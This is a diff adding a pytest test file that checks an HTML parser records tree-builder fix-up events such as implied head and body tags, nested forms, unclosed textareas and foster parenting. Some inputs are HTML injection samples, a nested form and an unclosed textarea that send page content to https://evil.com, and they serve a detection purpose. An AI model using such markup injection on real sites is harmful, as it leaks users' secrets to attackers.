@@ -1,0 +1,202 @@
+"""Tree-builder fix-up events — the instrumentation the definition-violation
+rules consume.  Each event kind gets positive and negative cases."""
+from __future__ import annotations
+
+import pytest
+
+from repro.html import MATHML_NAMESPACE, SVG_NAMESPACE, parse
+
+
+def kinds(result):
+    return [event.kind for event in result.events]
+
+
+CLEAN_PAGE = (
+    "<!DOCTYPE html><html><head><title>t</title></head>"
+    "<body><p>x</p></body></html>"
+)
+
+
+class TestCleanDocuments:
+    def test_complete_page_no_events(self):
+        assert parse(CLEAN_PAGE).events == []
+
+    def test_clean_tables_forms_svg(self):
+        result = parse(
+            "<!DOCTYPE html><html><head><title>t</title></head><body>"
+            "<table><tbody><tr><td>x</td></tr></tbody></table>"
+            "<form action='/s'><input name=q></form>"
+            "<svg><rect width='1' height='1'></rect></svg>"
+            "</body></html>"
+        )
+        assert result.events == []
+
+
+class TestHeadEvents:
+    def test_head_start_implied(self):
+        result = parse("<!DOCTYPE html><html><body>x</body></html>")
+        assert "head-start-implied" in kinds(parse("<html><body>x"))
+
+    def test_head_end_implied_by_body(self):
+        result = parse("<html><head><title>t</title><body>x")
+        events = result.events_of("head-end-implied")
+        assert len(events) == 1
+        assert events[0].detail == "body"
+
+    def test_disallowed_element_in_head(self):
+        result = parse(
+            "<html><head><title>t</title><div hidden>m</div></head><body>x"
+        )
+        disallowed = result.events_of("disallowed-in-head")
+        assert [event.tag for event in disallowed] == ["div"]
+        assert "head-end-implied" in kinds(result)
+
+    def test_head_element_after_head(self):
+        result = parse(
+            "<html><head><title>t</title></head>"
+            '<link rel="stylesheet" href="/x.css"><body>x'
+        )
+        events = result.events_of("head-element-after-head")
+        assert [event.tag for event in events] == ["link"]
+        # link is rerouted INTO the head
+        assert parse(
+            '<html><head></head><link href="/x.css"><body>'
+        ).document.head.find("link") is not None
+
+    def test_explicit_head_no_events(self):
+        result = parse(CLEAN_PAGE)
+        assert result.events_of("head-start-implied") == []
+        assert result.events_of("head-end-implied") == []
+
+    def test_google_404_shape(self):
+        """Figure 12: Google's 404 misses head and body tags."""
+        result = parse(
+            "<!DOCTYPE html><html lang=en><meta charset=utf-8>"
+            "<title>Error 404 (Not Found)!!1</title><style>*{margin:0}</style>"
+            '<a href="//www.google.com/"><span id=logo></span></a>'
+            "<p><b>404.</b> <ins>That’s an error.</ins>"
+        )
+        assert "head-start-implied" in kinds(result)
+        assert "head-end-implied" in kinds(result)
+        assert "body-start-implied" in kinds(result)
+
+
+class TestBodyEvents:
+    def test_body_start_implied_by_content(self):
+        result = parse("<html><head></head><img src='x.gif'><body>")
+        implied = result.events_of("body-start-implied")
+        assert len(implied) == 1
+        assert implied[0].detail == "img"
+
+    def test_body_start_implied_at_eof_has_eof_detail(self):
+        result = parse("<html><head><title>t</title></head>")
+        implied = result.events_of("body-start-implied")
+        assert [event.detail for event in implied] == ["#eof"]
+
+    def test_second_body_merged(self):
+        result = parse("<body class=a><body class=b onload=x()>")
+        assert len(result.events_of("second-body-merged")) == 1
+        body = result.document.body
+        assert body.get("class") == "a"          # first wins
+        assert body.get("onload") == "x()"       # new attrs added
+
+    def test_figure4_p_absorbs_body(self):
+        """Figure 4: '<p' with no '>' absorbs the body tag and its onload."""
+        result = parse('<html><head></head><p\n<body onload="check()">x')
+        body = result.document.body
+        # The body element exists but the onload check was swallowed into
+        # the p tag's attributes.
+        assert body is not None
+        assert body.get("onload") is None
+
+
+class TestFormEvents:
+    def test_nested_form_ignored(self):
+        result = parse(
+            '<form action="https://evil.com"><form action="/real">'
+            "<input name=q></form>"
+        )
+        assert len(result.events_of("nested-form-ignored")) == 1
+        forms = result.document.find_all("form")
+        assert len(forms) == 1
+        assert forms[0].get("action") == "https://evil.com"
+
+    def test_sequential_forms_fine(self):
+        result = parse("<form action='/a'></form><form action='/b'></form>")
+        assert result.events_of("nested-form-ignored") == []
+        assert len(result.document.find_all("form")) == 2
+
+    def test_form_in_table_with_open_form(self):
+        result = parse(
+            "<form action='/outer'><table><form action='/inner'>"
+            "<tr><td>x</td></tr></table></form>"
+        )
+        assert len(result.events_of("nested-form-ignored")) == 1
+
+
+class TestEofEvents:
+    def test_unclosed_textarea(self):
+        result = parse("<body><textarea>rest of page")
+        events = result.events_of("rcdata-closed-at-eof")
+        assert [event.tag for event in events] == ["textarea"]
+
+    def test_closed_textarea_clean(self):
+        result = parse("<body><textarea>ok</textarea>")
+        assert result.events_of("rcdata-closed-at-eof") == []
+
+    def test_unclosed_select_and_option(self):
+        result = parse("<body><select><option>France")
+        open_tags = {e.tag for e in result.events_of("element-open-at-eof")}
+        assert {"select", "option"} <= open_tags
+
+    def test_figure3_textarea_exfiltration(self):
+        """Figure 3: the injected textarea swallows the secret."""
+        result = parse(
+            '<body><form action="https://evil.com">'
+            '<input type="submit"><textarea>\n'
+            "<p>My little secret</p>"
+        )
+        area = result.document.find("textarea")
+        assert "My little secret" in area.text_content()
+        assert result.events_of("rcdata-closed-at-eof")
+
+    def test_unclosed_div_reported(self):
+        result = parse("<body><div>unclosed")
+        assert "div" in {e.tag for e in result.events_of("element-open-at-eof")}
+
+    def test_p_open_at_eof_is_reported_as_open(self):
+        # p may legally omit its end tag; the event is still recorded and
+        # rule policy decides (DE rules ignore p).
+        result = parse("<body><p>fine")
+        assert "p" in {e.tag for e in result.events_of("element-open-at-eof")}
+
+
+class TestFosterParenting:
+    def test_strong_in_tr(self):
+        result = parse("<table><tr><strong>X</strong></tr></table>")
+        fostered = result.events_of("foster-parented")
+        assert any(event.tag == "strong" for event in fostered)
+
+    def test_figure11_cozi(self):
+        result = parse(
+            "<table><tr><strong>Cozi Organizer</strong></tr>"
+            "<tr><td>The #1 organizing app</td></tr></table>"
+        )
+        assert result.events_of("foster-parented")
+
+    def test_clean_table_no_events(self):
+        result = parse("<table><tr><td><strong>X</strong></td></tr></table>")
+        assert result.events_of("foster-parented") == []
+
+
+class TestForeignBreakout:
+    def test_breakout_namespace_recorded(self):
+        result = parse("<body><math><mrow><div>x</div></mrow></math>")
+        events = result.events_of("foreign-breakout")
+        assert len(events) == 1
+        assert events[0].namespace == MATHML_NAMESPACE
+        assert events[0].tag == "div"
+
+    def test_svg_breakout(self):
+        result = parse("<body><svg><p>x</p></svg>")
+        assert result.events_of("foreign-breakout")[0].namespace == SVG_NAMESPACE
